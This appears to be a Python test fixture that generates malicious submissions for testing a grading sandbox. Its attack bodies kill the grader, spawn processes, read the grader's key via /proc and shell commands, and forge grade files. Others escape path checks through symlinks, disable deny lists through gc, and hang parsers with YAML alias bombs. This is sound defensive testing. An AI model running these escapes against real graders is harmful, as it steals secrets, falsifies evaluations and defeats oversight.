"""Submissions that mean harm: each way into the grader, in three variants, and what shows that one got through."""

from pathlib import Path

KINDS = {
    "A1": "ends the grader",
    "A2": "starts a process",
    "A3": "reads what /proc tells of the grader, and the key",
    "A4": "changes grades",
    "A5": "gets past the check of paths by a folder's number",
    "A6": "reads and writes by torch",
    "A7": "reads and writes by other libraries",
    "A8": "starts processes for parallel work",
    "A9": "takes the hook apart",
    "A10": "makes links out of its folder",
}
# What all of them find: paths of things that are not theirs, and the way by which A5 fools a check of paths.
HEAD = """
import os, sys, signal, resource, fcntl, time, gc, json
KEY, OUT, GRADED = {key!r}, {out!r}, {graded!r}
HOME = os.getcwd()
def by_number(path, base="/usr", name="bin"):
    # The check sees HOME/name/../../x, inside of HOME; the system sees base/name/../../x.
    os.makedirs(f"{{HOME}}/d1/d2/d3/d4", exist_ok=True)
    try: os.symlink("d1/d2/d3/d4", f"{{HOME}}/{{name}}")
    except FileExistsError: pass
    os.chdir(HOME)
    return f"{{name}}/../..{{path}}", os.open(base, os.O_RDONLY)
def read_by_number(path):
    path, folder = by_number(path)
    return os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 1000)
def write_by_number(path, content=b"x"):
    path, folder = by_number(path)
    os.write(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, dir_fd=folder), content)
def shell(command, daemon=False):
    import multiprocessing.util
    command = ("exec setsid sh -c " + repr(command) + " &") if daemon else command
    pid = multiprocessing.util.spawnv_passfds(b"/bin/sh", ["sh", "-c", command], ())
    return pid if daemon else os.waitpid(pid, 0)[1] == 0
def forged(text):
    grade = json.loads(text)
    for question in grade["questions"]: question["points"] = 1000
    grade["points"] = 1000
    return json.dumps(grade).encode()
"""
# Each body runs in a function: what it returns, if true, was got. Files that appear at OUT or beside it show the rest.
ATTACKS = {
    "A1 pidfd": "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9)",
    "A1 prlimit": "resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)); time.sleep(2)",
    "A1 sigio": """
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, os.getppid()); fcntl.fcntl(r, 10, 9)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); os.write(w, b'x')""",
    "A2 shell": "return shell('true > /dev/null')",
    "A2 daemon": "return shell('sleep 300 # a daemon that stays', daemon=True)",
    "A2 tracker": "import multiprocessing.resource_tracker as t; t.ensure_running(); return t._resource_tracker._pid",
    "A3 shell": "shell(f'cat {KEY} > loot'); return 'teacher' in open('loot').read()",
    "A3 links": "place = os.readlink(f'/proc/{os.getppid()}/cwd'); return place not in (HOME, '/')",
    "A3 cmdline": """
path, folder = by_number(f'/{os.getppid()}/cmdline', '/proc/self', 'task')
return os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 1000)""",
    "A4 daemon": """
return shell(f"sleep 1; sed -i 's/: 1.0/: 1000/; s/: 3.0/: 1000/' {GRADED}/*.json; date > {OUT}", daemon=True)""",
    "A4 by number": "write_by_number(f'{GRADED}/1.json', forged(read_by_number(f'{GRADED}/1.json')))",
    "A4 arrow": """
import pyarrow
text = pyarrow.OSFile(f'{GRADED}/1.json').read()
with pyarrow.OSFile(f'{GRADED}/1.json', 'wb') as file: file.write(forged(text))""",
    "A5 read": "return read_by_number(KEY)",
    "A5 write": "write_by_number(OUT)",
    "A5 truncate": "path, folder = by_number(KEY); os.open(path, os.O_RDONLY | os.O_TRUNC, dir_fd=folder)",
    "A6 read": "import torch; return bytes(torch.from_file(KEY, shared=False, size=9, dtype=torch.uint8).tolist())",
    "A6 write": "import torch; torch.from_file(KEY, shared=True, size=9, dtype=torch.uint8).fill_(65)",
    "A6 storage": "import torch; return torch.UntypedStorage.from_file(KEY, False, 9).tolist()",
    "A7 sqlite": "import sqlite3; sqlite3.connect(OUT).execute('create table t(x)')",
    "A7 safetensors": "import numpy, safetensors.numpy as s; s.save_file({'x': numpy.ones(3)}, OUT)",
    "A7 arrow": "import pyarrow.fs as f; f.LocalFileSystem().delete_file(KEY)",
    "A8 joblib": """
os.environ.update(JOBLIB_MULTIPROCESSING='1', LOKY_MAX_CPU_COUNT='2')
for name in [name for name in sys.modules if name.startswith('joblib')]: del sys.modules[name]
import joblib
pids = joblib.Parallel(n_jobs=2)(joblib.delayed(os.getpid)() for _ in range(4))
return set(pids) - {os.getpid()}""",
    "A8 loky": """
from joblib.externals.loky import get_reusable_executor
return get_reusable_executor(2, timeout=2).submit(os.getpid).result(5) != os.getpid()""",
    "A8 spawn": """
import multiprocessing
process = multiprocessing.get_context('spawn').Process(target=print)
process.start()
return process.pid""",
    "A9 main": """
frame = sys._getframe()
while frame: last, frame = frame, frame.f_back
last.f_globals['REFUSED'].clear()
return os.system(f'cat {KEY} > loot') == 0 and open('loot').read()""",
    "A9 collector": """
for each in gc.get_objects():
    if isinstance(each, set) and 'os.system' in each: each.clear()
return os.system(f'cat {KEY} > loot') == 0 and open('loot').read()""",
    "A9 readable": """
for each in gc.get_objects():
    if isinstance(each, list) and '/proc/cpuinfo' in each: each.append(os.path.dirname(KEY))
return open(KEY).read()""",
    "A10 relative": """
os.makedirs(f'{HOME}/a/b', exist_ok=True); os.chdir(f'{HOME}/a/b')
os.symlink('../../x', '../../evil'); os.chdir(HOME)
return os.readlink('evil') == '../../x' and os.path.islink('evil')""",
    "A10 read": """
up = '../' * HOME.count('/'); deep = f'{HOME}/' + 'e/' * (HOME.count('/') + KEY.count('/') + 2)
os.makedirs(deep, exist_ok=True); os.chdir(deep)
os.symlink(up + KEY[1:], os.path.relpath(f'{HOME}/evil-key')); os.chdir(HOME)
import torch; return torch.from_file('evil-key', shared=False, size=9, dtype=torch.uint8).tolist()""",
    "A10 write": """
up = '../' * HOME.count('/'); deep = f'{HOME}/' + 'f/' * (HOME.count('/') + KEY.count('/') + 2)
os.makedirs(deep, exist_ok=True); os.chdir(deep)
os.symlink(up + OUT[1:], os.path.relpath(f'{HOME}/evil-out')); os.chdir(HOME)
import sqlite3; sqlite3.connect('evil-out').execute('create table t(x)')""",
}
RIGHT = "def double(x):\n    return 2 * x\n\n\ndef square(x):\n    return x * x\n"


def submission(names: list[str], *, key: Path, out: Path, graded: Path) -> str:
    """Return a submission that attacks in all these ways, one after the other, and answers what it got."""
    text = HEAD.format(key=str(key), out=str(out), graded=str(graded)) + "won, said = [], {}\n"
    for number, name in enumerate(names):
        body = "".join(f"    {line}\n" for line in ATTACKS[name].strip().splitlines())
        text += f"def attack_{number}():\n{body}"
        text += f"try:\n    if attack_{number}(): won.append({name!r})\n"
        text += f"except BaseException as error: said[{name!r}] = repr(error)[:200]\nos.chdir(HOME)\n"
    return f"{text}\n# %%\n{RIGHT}\n\ndef double(x):\n    return [won, said]\n"


def hang(path: Path, what: str) -> None:
    """Write a submission that is meant to hang whoever reads it."""
    if what.startswith("B3"):
        with path.open("wb") as file:
            file.truncate(12 * 2**30)
        return
    path.write_text(HANGS[what](), encoding="utf-8")


def _aliases() -> str:
    lines = [f"#   a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i else 'x'] * 10)}]" for i in range(9)]
    return "\n".join(["# ---", "# jupyter:", *lines, "# ---", RIGHT])


def _merges() -> str:
    lines = ["#   m0: &m0 {x: 1}"] + [
        f"#   m{i}: &m{i} {{<<: [{', '.join([f'*m{i - 1}'] * 10)}]}}" for i in range(1, 9)
    ]
    return "\n".join(["# ---", "# jupyter:", *lines, "# ---", RIGHT])


HANGS = {
    "B1 aliases": _aliases,
    "B1 merges": _merges,
    "B1 long": lambda: "\n".join(
        ["# ---", "# jupyter:", *(f"#   k{i}: [1, 2]" for i in range(200_000)), "# ---", RIGHT]
    ),
    "B2 cells": lambda: "# %%\n" * 400_000 + RIGHT,
    "B2 magics": lambda: "%a\n" * 1_500_000 + RIGHT,
    "B2 quotes": lambda: "'''\n" * 900_000 + RIGHT,
}
LARGE = ("B3 file", "B3 notebook", "B3 in a folder")
